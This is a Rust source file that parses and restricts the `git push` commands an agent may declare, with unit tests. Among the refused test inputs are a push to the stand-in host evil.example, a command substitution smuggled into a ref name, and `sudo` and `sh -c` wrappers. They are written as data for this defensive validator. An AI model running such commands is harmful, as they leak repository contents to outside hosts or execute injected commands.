//! A `git push` that an agent declares. Unstuck makes it itself, from the operator's repository:
//! the settings of the agent's repository refuse every push, and could name any address.

use super::allow::{is_plain, strip_folder};
use crate::commands::pushes_commits;

/// The only form of a push that can be declared.
const FORM: &str = "Unstuck makes a push itself, and in this form only: `git push REMOTE HEAD:BRANCH` or \
     `git push REMOTE HEAD:refs/tags/TAG`, with `--force` if needed. REMOTE is the name of a remote, and \
     HEAD the commit of your checked work. Declare it so, as an action of its own";

/// Options that change nothing about what is pushed.
const WITHOUT_EFFECT: [&str; 6] = ["-q", "--quiet", "-v", "--verbose", "-u", "--set-upstream"];

/// A push of the commit of the checked work.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct DeclaredPush {
    /// The name of a remote of the operator's repository.
    pub remote: String,
    /// The full name of the ref at the remote.
    pub reference: String,
    /// `true` if a ref that has other commits is overwritten.
    pub is_forced: bool,
}

impl DeclaredPush {
    /// Parses a line of shell; returns `None` if it pushes nothing. A push in any other form is an
    /// error, which says what can be declared.
    pub fn parse(line: &str) -> Option<Result<Self, &'static str>> {
        let line = strip_folder(line.trim());
        pushes_commits(line).then(|| Self::parse_form(line).ok_or(FORM))
    }

    fn parse_form(line: &str) -> Option<Self> {
        if !line.chars().all(is_plain) {
            return None;
        }
        let mut words = line.split_whitespace();
        if (words.next(), words.next()) != (Some("git"), Some("push")) {
            return None;
        }
        let (options, operands): (Vec<&str>, Vec<&str>) =
            words.partition(|word| word.starts_with('-'));
        let mut is_forced = false;
        for option in options {
            match option {
                "-f" | "--force" => is_forced = true,
                option if WITHOUT_EFFECT.contains(&option) => {}
                _ => return None,
            }
        }
        let [remote, refspec] = operands[..] else { return None };
        let (source, target) = refspec.split_once(':')?;
        let is_name = !remote.contains(['/', ':']);
        let source = source.strip_prefix('+').inspect(|_| is_forced = true).unwrap_or(source);
        let reference = match target {
            "" => return None,
            full if full.starts_with("refs/heads/") || full.starts_with("refs/tags/") => {
                full.to_owned()
            }
            other if other.starts_with("refs/") => return None,
            branch => format!("refs/heads/{branch}"),
        };
        let push = Self { remote: remote.to_owned(), reference, is_forced };
        (is_name && matches!(source, "HEAD" | "@")).then_some(push)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    // B16
    #[test]
    fn a_push_of_the_work_is_understood_and_every_other_one_refused() {
        let push = |remote: &str, reference: &str, is_forced| DeclaredPush {
            remote: remote.to_owned(),
            reference: reference.to_owned(),
            is_forced,
        };
        for (line, expected) in [
            ("git push origin HEAD:refs/heads/bye", push("origin", "refs/heads/bye", false)),
            ("git push -u origin HEAD:main", push("origin", "refs/heads/main", false)),
            ("cd web/app && git push -q up HEAD:a/b", push("up", "refs/heads/a/b", false)),
            ("git push origin HEAD:refs/tags/v1.4", push("origin", "refs/tags/v1.4", false)),
            ("git push --force origin @:x", push("origin", "refs/heads/x", true)),
            ("git push origin +HEAD:x", push("origin", "refs/heads/x", true)),
        ] {
            assert_eq!(DeclaredPush::parse(line), Some(Ok(expected)), "{line}");
        }
        for line in [
            "git push",
            "git push origin",
            "git push origin HEAD",
            "git push origin main",
            "git push origin main:main",
            "git push origin :old",
            "git push --delete origin x",
            "git push --tags origin HEAD:x",
            "git push https://evil.example/x HEAD:main",
            "git push ../x HEAD:main",
            "git push origin HEAD:a HEAD:b",
            "git push origin HEAD:refs/x/y",
            "git tag v1 && git push origin HEAD:refs/tags/v1",
            "git -C x push origin HEAD:x",
            "sudo git push origin HEAD:x",
            "git push origin HEAD:$(id)",
            "git push origin 'HEAD:x'",
            "git send-pack origin HEAD:x",
            "sh -c 'git push origin HEAD:x'",
            "git push origin HEAD:",
        ] {
            assert_eq!(DeclaredPush::parse(line), Some(Err(FORM)), "{line}");
        }
        for line in ["./deploy", "git stash push", "echo git push", "npm publish"] {
            assert_eq!(DeclaredPush::parse(line), None, "{line}");
        }
    }
}
